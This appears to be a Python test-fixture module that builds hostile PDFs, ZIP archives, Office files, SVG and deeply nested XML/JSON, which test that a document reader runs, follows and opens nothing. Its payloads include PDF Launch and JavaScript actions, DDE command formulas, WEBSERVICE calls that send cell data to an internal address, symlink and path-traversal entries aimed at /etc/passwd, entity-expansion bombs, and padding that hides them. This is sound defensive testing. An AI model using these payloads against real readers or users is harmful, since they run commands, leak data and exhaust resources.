"""Files that would act if somebody let them, archives whose entries are no plain files, files that lie about counts.

No reader of ours runs, follows, opens or writes anything that a file asks for.  Entries as in :mod:`.hostile`; ``said``
is what the facts mention of it.
"""

from __future__ import annotations

import gzip
import io
import re
import stat
import struct
import warnings
import zipfile
import zlib
from dataclasses import dataclass
from typing import TYPE_CHECKING

from .hostile import GOOD, LAUGHS, THEFT, cell, document, package, workbook
from .paper import Pdf, lines, written

if TYPE_CHECKING:
    from collections.abc import Callable

#: Enough to hide what follows from whoever looks at the first bytes only.
PADDING = f"<!--{' ' * 6_000}-->"
INSIDE = "http://10.0.0.1/"
LAUNCH = "<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>"
SCRIPT = f"<< /S /JavaScript /JS (app.launchURL\\('{INSIDE}'\\); while\\(true\\){{}}) >>"
SUBMIT = f"<< /S /SubmitForm /F << /FS /URL /F ({INSIDE}) >> >>"
CSV = "ที่,โครงการ\n1,แผนปฏิบัติราชการประจำปี\n"


@dataclass(frozen=True)
class Active:
    """A file, how it is made, the errors that are right, and what its reasons say of it."""

    name: str
    build: Callable[[], bytes]
    errors: frozenset[str | None] = frozenset([None])
    said: str = ""


# -------------------------------------------------------------------------------------------- pdf


def asking(catalog: str) -> bytes:
    """A sound page in a document that asks for something."""
    return written([lines(*GOOD)], catalog=catalog)


def attached(count: int, catalog: str = "") -> bytes:
    """A sound page, and files attached to it in a second revision."""
    good = written([lines(*GOOD)])
    first = int(re.findall(rb"/Size (\d+)", good)[-1])
    out, places, named = bytearray(good), {}, []
    for number in range(first, first + count):
        places[number] = len(out)
        out += b"%d 0 obj\n<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream\nendobj\n" % number
        name = f"(plan{number}.exe)"
        named.append(f"{name} << /Type /Filespec /F {name} /EF << /F {number} 0 R >> >>")
    places[1] = len(out)
    names = f"/Names << /EmbeddedFiles << /Names [{' '.join(named)}] >> >>"
    out += f"1 0 obj\n<< /Type /Catalog /Pages 2 0 R {names} {catalog} >>\nendobj\n".encode()
    start, before = len(out), good[good.rindex(b"startxref") + 10 :].split()[0].decode()
    out += b"xref\n" + b"".join(b"%d 1\n%010d 00000 n \n" % place for place in sorted(places.items()))
    out += f"trailer\n<< /Size {first + count} /Root 1 0 R /Prev {before} >>\nstartxref\n{start}\n%%EOF\n".encode()
    return bytes(out)


def claiming(what: bytes, instead: bytes) -> bytes:
    """A sound page in a file that claims a thousand million of something."""
    return re.sub(what, instead, written([lines(*GOOD)]))


def table_of_a_billion() -> bytes:
    """A table of objects, packed, that claims to go on for ever."""
    good = written([lines(*GOOD)])
    body = good[: good.rindex(b"xref\n0 ")]
    packed = zlib.compress(bytes(7_000))
    entry = (
        f"900 0 obj\n<< /Type /XRef /Size 1000000000 /W [1 4 2] /Index [0 1000000000] /Root 1 0 R"
        f" /Filter /FlateDecode /Length {len(packed)} >>\nstream\n"
    )
    return body + entry.encode() + packed + f"\nendstream\nendobj\nstartxref\n{len(body)}\n%%EOF\n".encode()


def stream_of_a_billion_objects() -> bytes:
    pdf = Pdf()
    root = pdf.add("<< /Type /Catalog /Pages 2 0 R >>")
    pdf.add("<< /Type /Pages /Count 1 /Kids [3 0 R] >>")
    pdf.add("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>")
    pdf.stream(b"1 0 2 5", "/Type /ObjStm /N 1000000000 /First 100")
    return pdf.write(root)


# -------------------------------------------------------------------------------------------- archives


def zipped(*entries: tuple[zipfile.ZipInfo | str, str], packing: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(buffer, "w", packing) as archive:
        warnings.simplefilter("ignore", UserWarning)  # two entries of one name are the point
        for name, text in entries:
            archive.writestr(name, text)
    return buffer.getvalue()


def link_to(target: str) -> tuple[zipfile.ZipInfo, str]:
    entry = zipfile.ZipInfo("แผนปฏิบัติราชการประจำปี 2568.csv")
    entry.create_system, entry.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
    return entry, target


def one_place_under_many_names(count: int) -> bytes:
    """A directory whose entries all lie over one another."""
    one = zipped(("00000.txt", "ก " * 200_000))
    begins, ends = one.index(b"PK\x01\x02"), one.index(b"PK\x05\x06")
    entries = b"".join(one[begins:ends].replace(b"00000", b"%05d" % n) for n in range(count))
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, len(entries), begins, 0)
    return one[:begins] + entries + end


def thai_names_called_utf8() -> bytes:
    """Names in the Thai code page under the mark of UTF-8, as some archivers write them."""
    whole = zipped(("รายงาน.csv", CSV), ("งบ.csv", CSV))
    for name in ("รายงาน", "งบ"):
        written_so = name.encode("cp874")
        whole = whole.replace(name.encode(), written_so + b"-" * (len(name.encode()) - len(written_so)))
    return whole


def damaged(packing: int, at: int, *, name: str = "a.csv") -> bytes:
    """One byte of the packed member is another."""
    whole = bytearray(zipped((name, "application/vnd.oasis.opendocument.text" * 3), packing=packing))
    whole[30 + len(name) + at] ^= 0xFF
    return bytes(whole)


def promising(size: int) -> bytes:
    """An archive whose directory says that its small table has ``size`` bytes."""
    whole = bytearray(zipped(("a.csv", CSV), packing=zipfile.ZIP_DEFLATED))
    at = whole.index(b"PK\x01\x02") + 24
    whole[at : at + 4] = size.to_bytes(4, "little")
    return bytes(whole)


def with_parts(whole: bytes, parts: dict[str, bytes | str]) -> bytes:
    """An office file with other or further parts."""
    with zipfile.ZipFile(io.BytesIO(whole)) as archive:
        return package({name: archive.read(name) for name in archive.namelist()} | parts)


# -------------------------------------------------------------------------------------------- office files

ROWS = (
    f'<row r="1">{cell("A1", "รายการ")}{cell("B1", "จำนวนเงิน")}</row>'
    f'<row r="2">{cell("A2", "กระดาษ")}<c r="B2"><f>[1]Sheet1!$A$1</f><v>5</v></c></row>'
)
ACTING = (
    f'<row r="3"><c r="A3" t="str"><f>cmd|\'/c calc\'!A0</f><v>#REF!</v></c>'
    f'<c r="B3"><f>WEBSERVICE("{INSIDE}"&amp;A1)</f></c></row>'
)
RELATION = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}"'
    f' Target="{INSIDE}{{}}" TargetMode="External"/></Relationships>'
)
SPREADSHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
WORDS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
LETTER = "<w:p><w:r><w:t>แผนปฏิบัติราชการประจำปีงบประมาณ พ.ศ. 2568 ของสำนักงานเขตทดสอบ</w:t></w:r>{}</w:p>"


def linked_book() -> bytes:
    dde = f'<externalLink xmlns="{SPREADSHEET}"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    parts: dict[str, bytes | str] = {
        "xl/externalLinks/externalLink1.xml": dde,
        "xl/externalLinks/_rels/externalLink1.xml.rels": RELATION.format("externalLinkPath", "other.xlsx"),
    }
    return with_parts(workbook(ROWS + ACTING), parts)


def letter(field: str = "", **parts: str) -> bytes:
    whole = document(LETTER.format(field).encode())
    return with_parts(whole, {name.replace("__", "/"): body for name, body in parts.items()})


def bomb_in_shared_strings() -> bytes:
    strings = f'<?xml version="1.0"?>{LAUGHS}<sst xmlns="{SPREADSHEET}"><si><t x="&i;">&i;</t></si></sst>'
    return with_parts(
        workbook('<row r="1"><c r="A1" t="s"><v>0</v></c></row>'), {"xl/sharedStrings.xml": strings}
    )


def bomb_of_two_byte_letters() -> bytes:
    xml = f'<?xml version="1.0" encoding="UTF-16"?>{LAUGHS}<w:document xmlns:w="{WORDS}"><w:body><w:p w:x="&i;"/></w:body></w:document>'
    return with_parts(document(b"<w:p/>"), {"word/document.xml": xml.encode("utf-16")})


SVG = (
    f'<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'{INSIDE}\')"><script>fetch("{INSIDE}")</script>'
    '<text>แผนปฏิบัติราชการประจำปีงบประมาณ</text><image href="file:///etc/passwd"/></svg>'
)
LIMITS = {"limit:entities"}
DEEP = {"limit:depth"}

ACTIVE = tuple(
    Active(name, build, frozenset(errors), said)
    for name, build, errors, said in (
        ("launches.pdf", lambda: asking(f"/OpenAction {LAUNCH}"), {None}, "asks for Launch, which was not done"),
        ("runs-a-script.pdf", lambda: asking(f"/OpenAction {SCRIPT} /AA << /WC {SCRIPT} >>"), {None}, "asks for JavaScript"),
        ("names-a-script.pdf", lambda: asking(f"/Names << /JavaScript << /Names [(a) {SCRIPT}] >> >>"), {None}, "asks for JavaScript"),
        ("sends-itself.pdf", lambda: asking(f"/OpenAction {SUBMIT}"), {None}, "asks for SubmitForm"),
        ("a-file-attached.pdf", lambda: attached(1), {None}, "holds 1 attached files, which were not read"),
        ("20,000-files-attached.pdf", lambda: attached(20_000), {None}, "holds 20000 attached files"),
        ("a-portfolio.pdf", lambda: attached(3, "/Collection << /View /D >>"), {None}, "holds 3 attached files"),
        ("10^9-objects.pdf", lambda: claiming(rb"/Size \d+", b"/Size 1000000000"), {None}, "text on every page read"),
        ("10^9-entries.pdf", lambda: claiming(rb"xref\n0 \d+\n", b"xref\n0 1000000000\n"), {None}, "text on every page read"),
        ("10^9-pages.pdf", lambda: claiming(rb"/Count 1\b", b"/Count 1000000000"), {None}, "text on every page read"),
        ("10^9-entries-packed.pdf", table_of_a_billion, {None, "corrupt", "limit:cpu", "limit:memory"}, ""),
        ("10^9-objects-packed.pdf", stream_of_a_billion_objects, {None, "corrupt", "limit:cpu", "limit:memory"}, ""),
        ("a-link.zip", lambda: zipped(link_to("../../../etc/passwd")), {None}, "a link to another file, not a file"),
        ("a-link-beside-a-file.zip", lambda: zipped(link_to("/etc/passwd"), ("b.csv", CSV)), {None}, "a table with a header"),
        ("absolute-names.zip", lambda: zipped(*((name, CSV) for name in ("/etc/cron.d/plan.csv", "C:\\plan.csv", "..\\plan.csv", "con.csv", "a\0b.csv"))), {None}, "a table with a header"),
        ("backward-names.zip", lambda: zipped(("\u202evsc.nalp\u202c.csv", CSV)), {None}, "a table with a header"),
        ("long-names.zip", lambda: zipped((f"{'x' * 60_000}.csv", CSV)), {None}, "a table with a header"),
        ("thai-names-called-utf8.zip", thai_names_called_utf8, {None}, "a table with a header"),
        ("two-of-one-name.zip", lambda: zipped(("a.csv", "x"), ("a.csv", CSV)), {None}, "a table with a header and 1 rows"),
        ("entries-over-one-another.zip", lambda: one_place_under_many_names(2_000), {"limit:inflate"}, ""),
        ("promises-what-no-bytes-inflate-to.zip", lambda: promising(1 << 30), {None}, "a table with a header and 1 rows"),
        ("broken-inside-lzma.zip", lambda: damaged(zipfile.ZIP_LZMA, 9), {None}, "cannot be inflated"),
        ("broken-inside-bzip2.zip", lambda: damaged(zipfile.ZIP_BZIP2, 20), {None}, "cannot be inflated"),
        ("broken-inside-deflate.zip", lambda: damaged(zipfile.ZIP_DEFLATED, 0), {None}, "cannot be inflated"),
        ("broken-kind-deflate.odt", lambda: damaged(zipfile.ZIP_DEFLATED, 0, name="mimetype"), {None}, "cannot be inflated"),
        ("broken-kind-lzma.odt", lambda: damaged(zipfile.ZIP_LZMA, 4, name="mimetype"), {None}, "cannot be inflated"),
        ("linked.xlsx", linked_book, {None}, "takes values from other files"),
        ("macros.xlsm", lambda: with_parts(workbook(ROWS), {"xl/vbaProject.bin": b"x"}), {None}, "macros, which were not run"),
        ("dde.docx", lambda: letter('<w:r><w:instrText>DDEAUTO cmd.exe "/c calc"</w:instrText></w:r>'), {None}, "text (docx)"),
        ("template-elsewhere.docx", lambda: letter(word___rels__settings=RELATION.format("attachedTemplate", "x.dotm")), {None}, "text (docx)"),
        ("late-laughs.xlsx", lambda: workbook('<row r="1"><c r="A1" t="inlineStr"><is><t x="&i;">&i;</t></is></c></row>', PADDING + LAUGHS), LIMITS, ""),
        ("late-laughs.docx", lambda: document(b'<w:p w:x="&i;"/>', PADDING + LAUGHS), LIMITS, ""),
        ("very-late-laughs.docx", lambda: document(b'<w:p w:x="&j;"/>', PADDING * 12 + LAUGHS), {"limit:entities", "limit:depth"}, ""),
        ("late-theft.docx", lambda: document(b"<w:p>&f;</w:p>", PADDING + THEFT), LIMITS, ""),
        ("two-byte-laughs.docx", bomb_of_two_byte_letters, LIMITS, ""),
        ("laughs-in-shared-strings.xlsx", bomb_in_shared_strings, LIMITS, ""),
        ("paragraphs-200,000-deep.docx", lambda: document(b"<w:p>" * 200_000 + b"</w:p>" * 200_000), DEEP, ""),
        ("a-million-deep.xml", lambda: b"<?xml version='1.0'?>" + b"<a>" * 1_000_000, DEEP, ""),
        ("two-million-deep.json", lambda: b"[" * 2_000_000, DEEP, ""),
        ("objects-a-million-deep.json", lambda: b'{"a":' * 1_000_000 + b"1" + b"}" * 1_000_000, DEEP, ""),
        ("scripted.svg", SVG.encode, {None}, "text (svg)"),
        ("tags-that-never-end.svg", lambda: b"<svg>" + b"<text " * 300_000, {None}, "holds nothing"),
        ("twice-packed.gz", lambda: gzip.compress(gzip.compress(CSV.encode())), {None}, "gzip is not a document"),
        ("one-line.csv", lambda: b"a" * 3_000_000, {None}, "what follows was left out"),
        ("one-line-of-commas.csv", lambda: b"," * 3_000_000, {None}, "no table with a header"),
        ("nested-tags.html", lambda: b"<html>" + b"<div>" * 300_000, {None, "limit:depth"}, ""),
    )
)  # fmt: skip
